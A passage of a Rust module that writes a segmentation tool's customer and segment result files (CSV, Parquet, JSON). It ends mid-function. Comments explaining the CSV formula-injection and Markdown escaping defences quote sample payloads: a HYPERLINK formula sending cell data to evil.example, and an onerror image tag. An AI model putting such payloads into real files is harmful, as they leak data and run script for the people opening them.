//! The result files. Everything here is deterministic: rows sorted by id, floats printed with a
//! fixed number of decimals, JSON objects with sorted keys (numeric keys in numeric order), and
//! no wall-clock time anywhere.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;
use std::sync::Arc;

use arrow::array::{
    ArrayRef, BooleanBuilder, Date32Builder, Float64Builder, Int32Builder, Int64Builder, RecordBatch,
    StringBuilder,
};
use arrow::datatypes::{DataType, Field, Schema, SchemaRef};
use chrono::Datelike;
use parquet::arrow::ArrowWriter;
use parquet::arrow::arrow_writer::{ArrowColumnChunk, ArrowColumnWriter, compute_leaves};
use parquet::schema::types::ColumnPath;
use serde_json::{Value, json};

use super::SegmentError;
use super::features::{Behaviour, Customer, HOUR_BANDS, Stage, WEEKDAYS, age_band, from_epoch_days};
use super::interner::Interner;
use super::profile::{Profile, withheld};
use super::rfm::rank_value;
use super::{RfmRule, SegmentParams};
use crate::ingest::writer::ROW_GROUP_ROWS;

pub(super) const CUSTOMERS_PARQUET: &str = "customers.parquet";
pub(super) const CUSTOMERS_CSV: &str = "customers.csv";
pub(super) const SEGMENTS_CSV: &str = "segments.csv";
pub(super) const SEGMENTS_PARQUET: &str = "segments.parquet";
pub(super) const SEGMENTS_JSON: &str = "segments.json";
pub(super) const RFM_MATRIX_CSV: &str = "rfm_matrix.csv";
pub(super) const WINBACK_CSV: &str = "winback.csv";
pub(super) const MANIFEST_JSON: &str = "manifest.json";

/// Decimals of the money columns of the customer files (`monetary`, `avg_order_value`), in the
/// CSV and the Parquet alike.
const MONEY_DECIMALS: i32 = 2;

/// Excel only detects UTF-8 (and so shows Persian names) when the file starts with a BOM.
const BOM: &[u8] = "\u{feff}".as_bytes();

fn io_err(path: &Path, source: std::io::Error) -> SegmentError {
    SegmentError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// Fixed decimals, without the "-0.00" that rounding tiny negatives would print.
pub(super) fn fixed(v: f64, decimals: usize) -> String {
    let mut s = String::new();
    push_fixed(&mut s, v, decimals);
    s
}

/// [`fixed`], appended to `buf`.
pub(super) fn push_fixed(buf: &mut String, v: f64, decimals: usize) {
    if push_fixed_fast(buf, v, decimals) {
        return;
    }
    let start = buf.len();
    // Writing to a String cannot fail.
    let _ = write!(buf, "{v:.decimals$}");
    if buf[start..].starts_with('-') && buf[start + 1..].bytes().all(|b| b == b'0' || b == b'.') {
        buf.remove(start);
    }
}

/// The value [`fixed`] prints, so that a figure reads the same in the JSON files as in the CSV
/// and Markdown ones (scaling by 10^d first rounded 103.165, stored as 103.16499…, up to 103.17).
pub(super) fn round(v: f64, decimals: i32) -> f64 {
    let decimals = usize::try_from(decimals).unwrap_or(0);
    // Every person's fit is rounded: the digits `fixed` would print, without printing them. A
    // correctly rounded division of the digits by the scale is the value parsing them gives.
    let r = match fast_digits(v, decimals) {
        Some((n, scale)) => (n as f64 / scale as f64).copysign(v),
        None => fixed(v, decimals).parse().unwrap_or(v),
    };
    if r == 0.0 { 0.0 } else { r }
}

fn opt_fixed(v: Option<f64>, decimals: usize) -> String {
    v.map_or_else(String::new, |v| fixed(v, decimals))
}

fn date_str(days: i32) -> String {
    let mut s = String::with_capacity(10);
    push_date(&mut s, days);
    s
}

/// [`push_fixed`] through integer arithmetic, for the common case; `false` (and nothing written)
/// where the result could differ from the exact formatting. The customers file prints ~2 M
/// decimals, and exact float formatting was the largest cost of writing it.
fn push_fixed_fast(buf: &mut String, v: f64, decimals: usize) -> bool {
    let Some((n, scale)) = fast_digits(v, decimals) else {
        return false;
    };
    if n != 0 && v.is_sign_negative() {
        buf.push('-');
    }
    let mut digits = itoa::Buffer::new();
    buf.push_str(digits.format(n / scale));
    if decimals > 0 {
        buf.push('.');
        let f = digits.format(n % scale);
        for _ in f.len()..decimals {
            buf.push('0');
        }
        buf.push_str(f);
    }
    true
}

/// The digits of `|v|` at `decimals` places as an integer, with its scale (10^decimals), through
/// float arithmetic; `None` where that could differ from exact formatting.
fn fast_digits(v: f64, decimals: usize) -> Option<(u64, u64)> {
    const SCALE: [u64; 4] = [1, 10, 100, 1000];
    let scale = *SCALE.get(decimals)?;
    // Exact powers of ten: the product carries one rounding, under 2^-53 of it, i.e. below
    // 1.2e-7 for products under 1e9.
    let x = v.abs() * scale as f64;
    if !x.is_finite() || x >= 1e9 {
        return None;
    }
    let whole = x.floor();
    let frac = x - whole;
    // Near a tie, that rounding could decide the last digit: leave it to the exact path.
    if (frac - 0.5).abs() < 1e-6 {
        return None;
    }
    Some((whole as u64 + u64::from(frac > 0.5), scale))
}

/// A day count since 1970-01-01 as chrono's `%Y-%m-%d` prints it, without parsing that format
/// for each of the ~400 k dates in the customers file.
fn push_date(buf: &mut String, days: i32) {
    let d = from_epoch_days(days);
    let y = d.year();
    if !(0..=9999).contains(&y) {
        // Writing to a String cannot fail.
        let _ = write!(buf, "{}", d.format("%Y-%m-%d"));
        return;
    }
    let (y, m, day) = (y as u32, d.month(), d.day());
    let digit = |v: u32| char::from(b'0' + v as u8);
    for c in [
        digit(y / 1000),
        digit(y / 100 % 10),
        digit(y / 10 % 10),
        digit(y % 10),
        '-',
        digit(m / 10),
        digit(m % 10),
        '-',
        digit(day / 10),
        digit(day % 10),
    ] {
        buf.push(c);
    }
}

/// The RFM cell, e.g. 545: each score is one digit, 1–5.
fn rfm_cell((r, f, m): (u8, u8, u8)) -> u32 {
    u32::from(r) * 100 + u32::from(f) * 10 + u32::from(m)
}

/// Everything the writers need to know about the run.
#[derive(Clone)]
pub(super) struct Report<'a> {
    pub params: &'a SegmentParams,
    pub customers: &'a [Customer],
    pub ids: &'a Interner,
    pub places: &'a Interner,
    pub strings: &'a Interner,
    /// Per segment (index as in `Customer::segment`): id, name, description, profile.
    pub segments: &'a [SegmentOut],
    pub base: &'a Profile,
    pub median_monetary: f64,
    /// Per customer (same index): ideal-customer fit 0–100; empty until computed.
    /// None for customers seen only on returns, who take no part in the profile.
    pub ideal_fit: Vec<Option<f64>>,
    /// Per customer (same index): kept off the activation lists (refused or unsubscribed);
    /// empty until computed.
    pub opted_out: Vec<bool>,
    /// Set: customers.parquet carries pseudonyms instead of customer ids.
    pub pseudonymizer: Option<&'a crate::privacy::Pseudonymizer>,
    /// The currency every amount is in, when one is known.
    pub money_unit: Option<&'a str>,
    /// Guests' share of net revenue (`guest_revenue_share` in the manifest).
    pub guest_revenue_share: Option<f64>,
    /// Customers-dataset records folded into a buyer with their email or phone: (record id, buyer
    /// id).
    pub merged_records: &'a [(u32, u32)],
    /// The emails and phones the customers files give one customer number alone (see
    /// [`super::customers::contact_aliases`]; a family's shared address names no one): a
    /// customer is reached, and refuses, under any of them, not only under the one the lists
    /// carry.
    pub aliases: &'a std::collections::HashMap<String, String>,
}

#[derive(Clone, Debug)]
pub(super) struct SegmentOut {
    pub id: u32,
    pub name: String,
    pub description: String,
    pub profile: Profile,
    /// Figures not published: see [`super::profile::withheld`].
    pub withheld: bool,
}

/// One output row, shared by the Parquet and CSV writers.
struct Row<'a> {
    customer_id: &'a str,
    segment: Option<&'a SegmentOut>,
    rfm: Option<(u8, u8, u8)>,
    rfm_group: Option<&'a str>,
    stage: &'static str,
    b: Option<&'a Behaviour>,
    /// Net value: the behaviour's, else that of a customer seen only on returns.
    monetary: Option<f64>,
    main_country: Option<&'a str>,
    main_city: Option<&'a str>,
    age_band: Option<&'static str>,
    gender: Option<&'a str>,
    job_title: Option<&'a str>,
    consent: Option<bool>,
}

impl<'r> Report<'r> {
    fn rules(&self) -> &[RfmRule] {
        &self.params.rfm_rules
    }

    /// The consent the activation lists obey: a customer who unsubscribed, or refused under
    /// another record with their email, has none, whatever their own record says. Anyone
    /// filtering `customers.csv` on this column must get the same people the lists have.
    fn consent(&self, i: usize, recorded: Option<bool>) -> Option<bool> {
        if self.opted_out.get(i) == Some(&true) {
            Some(false)
        } else {
            recorded
        }
    }

    /// The address a marketing tool reaches the customer at: the customers dataset's, else the id
    /// when the shop keys customers by email.
    pub(super) fn email(&self, c: &Customer) -> Option<&'r str> {
        let (ids, strings): (&'r Interner, &'r Interner) = (self.ids, self.strings);
        match c.attrs.as_ref().and_then(|a| a.email) {
            Some(e) => Some(strings.name(e)),
            // Looked at only when needed: the id string is a cache miss per customer.
            None if ids.may_hold_addresses() => Some(ids.name(c.idx)).filter(|id| id.contains('@')),
            None => None,
        }
    }

    /// The mobile or phone a marketing tool texts the customer at, in its key form
    /// (`+989121234567`): the customers dataset's, else the id when the shop keys customers by
    /// phone.
    pub(super) fn phone(&self, c: &Customer) -> Option<&'r str> {
        let (ids, strings): (&'r Interner, &'r Interner) = (self.ids, self.strings);
        match c.attrs.as_ref().and_then(|a| a.phone) {
            Some(p) => Some(strings.name(p)),
            None if ids.may_hold_addresses() => {
                Some(ids.name(c.idx)).filter(|id| crate::values::is_phone_key(id))
            }
            None => None,
        }
    }

    fn row<'a>(&'a self, c: &'a Customer) -> Row<'a> {
        let b = c.behaviour.as_ref();
        let a = c.attrs.as_ref();
        let s = |i: Option<u32>| i.map(|i| self.strings.name(i));
        let (country, city) = c.places(self.places, self.strings);
        Row {
            customer_id: self.ids.name(c.idx),
            segment: c.segment.map(|i| &self.segments[i]),
            rfm: c.rfm.map(|r| (r.r, r.f, r.m)),
            rfm_group: c.rfm.map(|r| self.rules()[r.group].name.as_str()),
            stage: c.stage.as_str(),
            b,
            monetary: b.map(|b| b.monetary).or(c.returns_only),
            main_country: country.map(|p| p.name(self.places, self.strings)),
            main_city: city.map(|p| p.name(self.places, self.strings)),
            age_band: a.and_then(|a| age_band(a, self.params.as_of)),
            gender: s(a.and_then(|a| a.gender)),
            job_title: s(a.and_then(|a| a.job_title)),
            consent: recorded_consent(c),
        }
    }
}

pub(super) fn customers_schema() -> SchemaRef {
    let utf8 = |n: &str, null: bool| Field::new(n, DataType::Utf8, null);
    let f64f = |n: &str| Field::new(n, DataType::Float64, true);
    Arc::new(Schema::new(vec![
        utf8("customer_id", false),
        // int in the Glue table the analysts query (infra/template.yaml).
        Field::new("segment_id", DataType::Int32, true),
        utf8("segment_name", true),
        Field::new("rfm_r", DataType::Int32, true),
        Field::new("rfm_f", DataType::Int32, true),
        Field::new("rfm_m", DataType::Int32, true),
        utf8("rfm_code", true),
        utf8("rfm_group", true),
        utf8("lifecycle_stage", false),
        f64f("recency_days"),
        Field::new("frequency", DataType::Int64, true),
        f64f("monetary"),
        f64f("avg_order_value"),
        f64f("tenure_days"),
        f64f("days_between_orders"),
        f64f("items_per_order"),
        f64f("multi_item_share"),
        f64f("return_rate"),
        utf8("preferred_weekday", true),
        utf8("preferred_hour_band", true),
        utf8("main_country", true),
        utf8("main_city", true),
        Field::new("distinct_products", DataType::Int64, true),
        Field::new("first_purchase", DataType::Date32, true),
        Field::new("last_purchase", DataType::Date32, true),
        utf8("age_band", true),
        utf8("gender", true),
        utf8("job_title", true),
        Field::new("marketing_consent", DataType::Boolean, true),
        f64f("ideal_fit"),
    ]))
}

/// Rows per batch handed to the Parquet writer: a multiple of its 1024-row write batches, so the
/// pages come out as from one batch, and the arrays of 200 000 customers are never all built at
/// once (they were the peak of a run's memory, beside the other two customer files' writers).
const CUSTOMER_BATCH_ROWS: usize = 32 * 1024;

/// The properties of `customers.parquet`.
pub(super) fn customers_properties() -> parquet::file::properties::WriterProperties {
    // One id per row, and money amounts and day counts that rarely repeat (recency, tenure and
    // gaps have a distinct value for more than half of the customers, in days and fractions of
    // one): a dictionary would only be built to be dropped again when it overflows, and zstd
    // packs their plain pages 7 % smaller (6.52 against 7.03 MB for 198,153 customers).
    [
        "customer_id",
        "monetary",
        "avg_order_value",
        "recency_days",
        "tenure_days",
        "days_between_orders",
        "return_rate",
    ]
    .into_iter()
    .fold(
        crate::ingest::writer::writer_properties().into_builder(),
        |b, c| b.set_column_dictionary_enabled(ColumnPath::from(c), false),
    )
    .build()
}

/// The last columns of `customers.parquet`, `marketing_consent` and `ideal_fit`: the only ones
/// the activation lists decide (who opted out, how well each customer fits).
const LATE_COLUMNS: usize = 2;

/// `customers.parquet` in two steps. [`Self::encode`] encodes every column but the
/// [`LATE_COLUMNS`] while the ideal-customer profile and the lists are computed, which keep
/// one core busy for much of their time; [`Self::finish`] encodes those two once the lists
/// are known and writes the file. The bytes are those of one `ArrowWriter` fed whole batches:
/// the same writers, the same batches, the same row groups.
pub(super) struct CustomerColumns {
    /// The customers in file order (see [`customer_order`]).
    order: Vec<u32>,
    /// Per row group: its encoded early columns, and the writers of its late columns.
    groups: Vec<(Vec<ArrowColumnChunk>, Vec<ArrowColumnWriter>)>,
}

impl CustomerColumns {
    /// Reads neither `r.opted_out` nor `r.ideal_fit`.
    pub(super) fn encode(r: &Report) -> Result<CustomerColumns, SegmentError> {
        let schema = customers_schema();
        // The factory needs the schema and the properties alone: the file is created by
        // `finish`, so that a run failing before its outputs leaves no half-written file.
        let (_, factory) =
            ArrowWriter::try_new(std::io::sink(), schema.clone(), Some(customers_properties()))?
                .into_serialized_writer()?;
        let early = schema.fields().len() - LATE_COLUMNS;
        let (order, pseudonyms) = customer_order(r);
        let mut groups = Vec::new();
        for (g, group) in order.chunks(ROW_GROUP_ROWS).enumerate() {
            let mut writers = factory.create_column_writers(g)?;
            let late = writers.split_off(early);
            for rows in group.chunks(CUSTOMER_BATCH_ROWS) {
                let columns = early_columns(r, rows, pseudonyms.as_deref());
                write_leaves(&schema.fields()[..early], &columns, &mut writers)?;
            }
            let chunks = writers
                .into_iter()
                .map(ArrowColumnWriter::close)
                .collect::<Result<_, _>>()?;
            groups.push((chunks, late));
        }
        Ok(CustomerColumns { order, groups })
    }

    pub(super) fn finish(self, r: &Report, path: &Path) -> Result<(), SegmentError> {
        let schema = customers_schema();
        let late_fields = &schema.fields()[schema.fields().len() - LATE_COLUMNS..];
        let file = File::create(path).map_err(|e| io_err(path, e))?;
        let (mut w, _) = ArrowWriter::try_new(file, schema.clone(), Some(customers_properties()))?
            .into_serialized_writer()?;
        for (group, (early, mut late)) in self.order.chunks(ROW_GROUP_ROWS).zip(self.groups) {
            for rows in group.chunks(CUSTOMER_BATCH_ROWS) {
                write_leaves(late_fields, &late_columns(r, rows), &mut late)?;
            }
            let mut rg = w.next_row_group()?;
            for chunk in early {
                chunk.append_to_row_group(&mut rg)?;
            }
            for writer in late {
                writer.close()?.append_to_row_group(&mut rg)?;
            }
            rg.close()?;
        }
        w.close()?;
        Ok(())
    }
}

/// Writes `columns` (of `fields`) to their writers, one per leaf, as `ArrowWriter` does.
fn write_leaves(
    fields: &[arrow::datatypes::FieldRef],
    columns: &[ArrayRef],
    writers: &mut [ArrowColumnWriter],
) -> Result<(), SegmentError> {
    let mut writers = writers.iter_mut();
    for (field, column) in fields.iter().zip(columns) {
        for leaf in compute_leaves(field, column)? {
            writers.next().expect("a writer per leaf").write(&leaf)?;
        }
    }
    Ok(())
}

/// The order of the rows of `customers.parquet` (customer indexes), and each customer's
/// pseudonym (by index) when ids are pseudonymised. Without pseudonyms the rows are in id order,
/// as in `customers.csv`. With them, they are in pseudonym order: in id order, row i of the
/// Parquet would sit beside row i of `customers.csv` (same row count, same order) and pair each
/// pseudonym with its real id.
fn customer_order(r: &Report) -> (Vec<u32>, Option<Vec<String>>) {
    let n = r.customers.len();
    let mut order: Vec<u32> = (0..n)
        .map(|i| u32::try_from(i).expect("customer index fits u32"))
        .collect();
    let Some(p) = r.pseudonymizer else {
        return (order, None);
    };
    // An HMAC per customer: on all cores.
    let pseudonyms = super::par::map_range(n, |i| p.pseudonym(r.ids.name(r.customers[i].idx)));
    // Pseudonyms are distinct in practice; the index keeps the order total regardless.
    order.sort_unstable_by(|&a, &b| {
        pseudonyms[a as usize]
            .cmp(&pseudonyms[b as usize])
            .then(a.cmp(&b))
    });
    (order, Some(pseudonyms))
}

/// The columns of `customers.parquet` but the [`LATE_COLUMNS`], for the customers at `rows`
/// (indexes, in file order).
fn early_columns(r: &Report, rows: &[u32], pseudonyms: Option<&[String]>) -> Vec<ArrayRef> {
    let n = rows.len();
    let s = || StringBuilder::with_capacity(n, n * 8);
    let (mut id, mut seg_name, mut code, mut group, mut stage) = (s(), s(), s(), s(), s());
    let mut seg_id = Int32Builder::with_capacity(n);
    let (mut weekday, mut band, mut country, mut city, mut age, mut gender, mut job) =
        (s(), s(), s(), s(), s(), s(), s());
    let (mut rr, mut rf, mut rm) = (
        Int32Builder::with_capacity(n),
        Int32Builder::with_capacity(n),
        Int32Builder::with_capacity(n),
    );
    let (mut freq, mut products) = (Int64Builder::with_capacity(n), Int64Builder::with_capacity(n));
    let f = || Float64Builder::with_capacity(n);
    let (mut recency, mut monetary, mut aov, mut tenure, mut gap, mut items, mut multi, mut ret) =
        (f(), f(), f(), f(), f(), f(), f(), f());
    let (mut first, mut last) = (Date32Builder::with_capacity(n), Date32Builder::with_capacity(n));
    for &i in rows {
        let i = i as usize;
        let row = r.row(&r.customers[i]);
        let b = row.b;
        match pseudonyms {
            Some(p) => id.append_value(&p[i]),
            None => id.append_value(row.customer_id),
        }
        seg_id.append_option(row.segment.map(|s| i32::try_from(s.id).unwrap_or(i32::MAX)));
        seg_name.append_option(row.segment.map(|s| s.name.as_str()));
        rr.append_option(row.rfm.map(|x| i32::from(x.0)));
        rf.append_option(row.rfm.map(|x| i32::from(x.1)));
        rm.append_option(row.rfm.map(|x| i32::from(x.2)));
        match row.rfm {
            Some(x) => code.append_value(itoa::Buffer::new().format(rfm_cell(x))),
            None => code.append_null(),
        }
        group.append_option(row.rfm_group);
        stage.append_value(row.stage);
        recency.append_option(b.map(|b| b.recency_days));
        freq.append_option(b.map(|b| i64::from(b.frequency)));
        // Money to the cent, as customers.csv prints it: a net value of 0.1 + 0.2 - 0.3 is 0,
        // not 5.6e-17, and a sum in Athena matches one over the CSV.
        monetary.append_option(row.monetary.map(|v| round(v, MONEY_DECIMALS)));
        aov.append_option(b.map(|b| round(b.avg_order_value, MONEY_DECIMALS)));
        tenure.append_option(b.map(|b| b.tenure_days));
        gap.append_option(b.and_then(|b| b.days_between_orders));
        items.append_option(b.map(|b| b.items_per_order));
        multi.append_option(b.map(|b| b.multi_item_share));
        ret.append_option(b.map(|b| b.return_rate));
        weekday.append_option(b.and_then(|b| b.weekday).map(|d| WEEKDAYS[d]));
        band.append_option(b.and_then(|b| b.hour_band).map(|h| HOUR_BANDS[h]));
        country.append_option(row.main_country);
        city.append_option(row.main_city);
        products.append_option(b.map(|b| i64::from(b.distinct_products)));
        first.append_option(b.map(|b| b.first_day));
        last.append_option(b.map(|b| b.last_day));
        age.append_option(row.age_band);
        gender.append_option(row.gender);
        job.append_option(row.job_title);
    }
    vec![
        Arc::new(id.finish()),
        Arc::new(seg_id.finish()),
        Arc::new(seg_name.finish()),
        Arc::new(rr.finish()),
        Arc::new(rf.finish()),
        Arc::new(rm.finish()),
        Arc::new(code.finish()),
        Arc::new(group.finish()),
        Arc::new(stage.finish()),
        Arc::new(recency.finish()),
        Arc::new(freq.finish()),
        Arc::new(monetary.finish()),
        Arc::new(aov.finish()),
        Arc::new(tenure.finish()),
        Arc::new(gap.finish()),
        Arc::new(items.finish()),
        Arc::new(multi.finish()),
        Arc::new(ret.finish()),
        Arc::new(weekday.finish()),
        Arc::new(band.finish()),
        Arc::new(country.finish()),
        Arc::new(city.finish()),
        Arc::new(products.finish()),
        Arc::new(first.finish()),
        Arc::new(last.finish()),
        Arc::new(age.finish()),
        Arc::new(gender.finish()),
        Arc::new(job.finish()),
    ]
}

/// The consent the customer's record gives.
fn recorded_consent(c: &Customer) -> Option<bool> {
    c.attrs.as_ref().and_then(|a| a.marketing_consent)
}

/// The [`LATE_COLUMNS`] for the customers at `rows`.
fn late_columns(r: &Report, rows: &[u32]) -> [ArrayRef; LATE_COLUMNS] {
    let mut consent = BooleanBuilder::with_capacity(rows.len());
    let mut fit = Float64Builder::with_capacity(rows.len());
    for &i in rows {
        let i = i as usize;
        consent.append_option(r.consent(i, recorded_consent(&r.customers[i])));
        fit.append_option(r.ideal_fit.get(i).copied().flatten());
    }
    [Arc::new(consent.finish()), Arc::new(fit.finish())]
}

/// A CSV file being written: UTF-8 with a BOM, comma-separated, `\n` after each row, a field
/// quoted only when it holds a comma, a quote or a line break (its quotes doubled), as the csv
/// crate's writer does by default (a test compares the two). Written here rather than through
/// that writer, whose per-field bookkeeping was half the cost of writing `customers.csv` (30
/// fields × 200,000 rows).
pub(super) struct CsvOut {
    w: BufWriter<File>,
    /// The row being written, reused.
    line: Vec<u8>,
}

pub(super) fn csv_writer(path: &Path) -> Result<CsvOut, SegmentError> {
    let mut w = BufWriter::with_capacity(1 << 16, File::create(path).map_err(|e| io_err(path, e))?);
    w.write_all(BOM).map_err(|e| io_err(path, e))?;
    Ok(CsvOut { w, line: Vec::new() })
}

pub(super) fn csv_finish(path: &Path, out: CsvOut) -> Result<(), SegmentError> {
    out.w.into_inner().map_err(|e| io_err(path, e.into_error()))?;
    Ok(())
}

pub(super) fn csv_row<I, S>(path: &Path, out: &mut CsvOut, fields: I) -> Result<(), SegmentError>
where
    I: IntoIterator<Item = S>,
    S: AsRef<[u8]>,
{
    out.line.clear();
    push_csv_row(&mut out.line, fields);
    out.w.write_all(&out.line).map_err(|e| io_err(path, e))
}

/// Appends one CSV row (see [`CsvOut`]), each field made [`spreadsheet_safe`].
fn push_csv_row<I, S>(line: &mut Vec<u8>, fields: I)
where
    I: IntoIterator<Item = S>,
    S: AsRef<[u8]>,
{
    let start = line.len();
    for (n, f) in fields.into_iter().enumerate() {
        if n > 0 {
            line.push(b',');
        }
        // A NUL byte (kept from an upload, as a text cell may hold it) is left out: import tools
        // cut the value there or refuse the file. Before the formula check, which a leading NUL
        // would otherwise hide a formula from.
        let f = f.as_ref();
        let without_nul: Vec<u8>;
        let f = if f.contains(&0) {
            without_nul = f.iter().copied().filter(|&b| b != 0).collect();
            &without_nul[..]
        } else {
            f
        };
        let f = spreadsheet_safe(f);
        if f.iter().any(|&b| matches!(b, b',' | b'"' | b'\n' | b'\r')) {
            line.push(b'"');
            for &b in f.iter() {
                if b == b'"' {
                    line.push(b'"');
                }
                line.push(b);
            }
            line.push(b'"');
        } else {
            line.extend_from_slice(&f);
        }
    }
    // A row of one empty field (or none) would read as no row at all.
    if line.len() == start {
        line.extend_from_slice(b"\"\"");
    }
    line.push(b'\n');
}

/// A cell as a spreadsheet may open it. Excel, LibreOffice and Google Sheets run a cell that
/// starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, and
/// job titles, cities and ids come from web forms and CRM fields anyone can fill in:
/// `=HYPERLINK("http://evil.example/?"&A1)` in a job title would run on the marketing team's
/// machine. Such a cell is written with a leading apostrophe, as OWASP recommends. Numbers and
/// phone numbers (`-12.50`, `+989121234567`, `+1 (415) 555-2106`) stay as they are: a sign
/// before digits is no formula, and marketing tools need the `+` of a phone number.
#[inline]
fn spreadsheet_safe(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    match cell.first() {
        Some(b'=' | b'@' | b'\t' | b'\r' | b'+' | b'-') => formula_safe(cell),
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

/// [`spreadsheet_safe`] for a cell that starts with a formula character: every cell of
/// `customers.csv` passes the check above, few get here.
#[cold]
fn formula_safe(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let number = |rest: &[u8]| {
        rest.iter().any(u8::is_ascii_digit)
            && rest
                .iter()
                .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b',' | b' ' | b'(' | b')' | b'-'))
    };
    if matches!(cell[0], b'+' | b'-') && (cell.len() == 1 || number(&cell[1..])) {
        return std::borrow::Cow::Borrowed(cell);
    }
    let mut safe = Vec::with_capacity(cell.len() + 1);
    safe.push(b'\'');
    safe.extend_from_slice(cell);
    std::borrow::Cow::Owned(safe)
}

/// A value from the uploads (a city, a country, a job title) as text in the Markdown profile.
/// Wikis and dashboards render that file, and a web form's `<img src=x onerror=…>` or
/// `![](http://tracker.example/pixel)` in a job title would run or load there. The characters
/// that open HTML, links, images, code, emphasis and table cells are backslash-escaped
/// (CommonMark's escape), and a line break or other control character, which could start a block
/// of its own, becomes a space. `R&D`, `Frankfurt (Oder)`, non-Latin scripts stay as written: a
/// parenthesis makes a link only after `]`, and an entity renders as text.
///
/// A bare address (`https://…`, `www.…`), which GitHub's Markdown turns into a link by itself, has
/// its `:` or `.` escaped too, and an `@` is followed by a zero-width space (no escape stops an
/// email address from being linked): the text shows, nothing links.
pub(super) fn markdown_safe(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for (i, c) in value.char_indices() {
        let rest = &value[i..];
        let before = &value[..i];
        let autolink = match c {
            ':' => rest.starts_with("://"),
            // Bytes, not a `str` slice: three bytes back may be inside a character ("53.57–64."
            // ends in an en dash and two digits, and slicing it there panicked). When they are
            // "www", the cut before them is a character boundary.
            '.' => {
                let b = before.as_bytes();
                b.len() >= 3
                    && b[b.len() - 3..].eq_ignore_ascii_case(b"www")
                    && !before[..b.len() - 3].ends_with(|p: char| p.is_alphanumeric())
            }
            _ => false,
        };
        match c {
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '!' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            _ if autolink => {
                out.push('\\');
                out.push(c);
            }
            // An email address is linked whatever is escaped; a zero-width space after its `@`
            // ends the match, and the text reads the same.
            '@' => {
                out.push('@');
                out.push('\u{200B}');
            }
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// One CSV row built in a reused buffer: the customers file has ~30 fields per customer, and a
/// `String` per field was a large share of the output phase's allocations.
#[derive(Default)]
pub(super) struct RowBuf {
    buf: String,
    ends: Vec<usize>,
}

impl RowBuf {
    fn clear(&mut self) {
        self.buf.clear();
        self.ends.clear();
    }

    fn end(&mut self) {
        self.ends.push(self.buf.len());
    }

    fn text(&mut self, s: Option<&str>) {
        self.buf.push_str(s.unwrap_or_default());
        self.end();
    }

    fn display(&mut self, v: Option<impl std::fmt::Display>) {
        if let Some(v) = v {
            // Writing to a String cannot fail.
            let _ = write!(self.buf, "{v}");
        }
        self.end();
    }

    fn int(&mut self, v: Option<impl itoa::Integer>) {
        if let Some(v) = v {
            self.buf.push_str(itoa::Buffer::new().format(v));
        }
        self.end();
    }

    fn date(&mut self, days: Option<i32>) {
        if let Some(d) = days {
            push_date(&mut self.buf, d);
        }
        self.end();
    }

    fn fixed(&mut self, v: Option<f64>, decimals: usize) {
        if let Some(v) = v {
            push_fixed(&mut self.buf, v, decimals);
        }
        self.end();
    }

    fn fields(&self) -> impl Iterator<Item = &str> {
        let starts = std::iter::once(0).chain(self.ends.iter().copied());
        starts.zip(&self.ends).map(|(a, &b)| &self.buf[a..b])
    }
}

pub(super) fn write_customers_csv(r: &Report, path: &Path) -> Result<(), SegmentError> {
    let mut w = csv_writer(path)?;
    let schema = customers_schema();
    csv_row(path, &mut w, schema.fields().iter().map(|f| f.name().as_str()))?;
    let mut f = RowBuf::default();
    for (i, c) in r.customers.iter().enumerate() {
        let row = r.row(c);
        let b = row.b;
        f.clear();
        f.text(Some(row.customer_id));
        f.int(row.segment.map(|s| s.id));
        f.text(row.segment.map(|s| s.name.as_str()));
        for score in [row.rfm.map(|x| x.0), row.rfm.map(|x| x.1), row.rfm.map(|x| x.2)] {
            f.int(score);
        }
        f.int(row.rfm.map(rfm_cell));
        f.text(row.rfm_group);
        f.text(Some(row.stage));
        f.fixed(b.map(|b| b.recency_days), 1);
        f.int(b.map(|b| b.frequency));
        f.fixed(row.monetary, MONEY_DECIMALS as usize);
        f.fixed(b.map(|b| b.avg_order_value), MONEY_DECIMALS as usize);
        f.fixed(b.map(|b| b.tenure_days), 1);
        f.fixed(b.and_then(|b| b.days_between_orders), 1);
        f.fixed(b.map(|b| b.items_per_order), 2);
        f.fixed(b.map(|b| b.multi_item_share), 3);
        f.fixed(b.map(|b| b.return_rate), 3);
        f.text(b.and_then(|b| b.weekday).map(|d| WEEKDAYS[d]));
        f.text(b.and_then(|b| b.hour_band).map(|h| HOUR_BANDS[h]));
        f.text(row.main_country);
        f.text(row.main_city);
        f.int(b.map(|b| b.distinct_products));
        f.date(b.map(|b| b.first_day));
        f.date(b.map(|b| b.last_day));
        f.text(row.age_band);
        f.text(row.gender);
        f.text(row.job_title);
        f.display(r.consent(i, row.consent));
        f.fixed(r.ideal_fit.get(i).copied().flatten(), 1);
        csv_row(path, &mut w, f.fields())?;
    }
    csv_finish(path, w)
}

/// Profile figures as JSON (rounded for reading), or nulls when suppressed.
pub(super) fn profile_json(s: &Profile, hide: bool) -> Value {
    let r = |v: Option<f64>, d: i32| {
        if hide {
            Value::Null
        } else {
            json!(v.map(|v| round(v, d)))
        }
    };
    let t = |v: &Option<String>| if hide { Value::Null } else { json!(v) };
    json!({
        "median_recency_days": r(s.median_recency_days, 1),
        "median_frequency": r(s.median_frequency, 1),
        "median_monetary": r(s.median_monetary, 2),
        "median_avg_order_value": r(s.median_avg_order_value, 2),
        "median_tenure_days": r(s.median_tenure_days, 1),
        "return_rate": r(s.return_rate, 3),
        "multi_item_share": r(s.multi_item_share, 3),
        "new_share": r(s.new_share, 3),
        "top_country": t(&s.top_country),
        "top_city": t(&s.top_city),
        "top_rfm_group": t(&s.top_rfm_group),
    })
}

fn share(part: f64, whole: f64) -> Option<f64> {
    (whole > 0.0).then(|| part / whole)
}

pub(super) fn segments_json(r: &Report) -> Value {
    let segments: Vec<Value> = r
        .segments
        .iter()
        .map(|s| {
            let hide = s.withheld;
            json!({
                "id": s.id,
                "name": s.name,
                "description": s.description,
                "customers": s.profile.customers,
                "share": share(s.profile.customers as f64, r.base.customers as f64).map(|v| round(v, 3)),
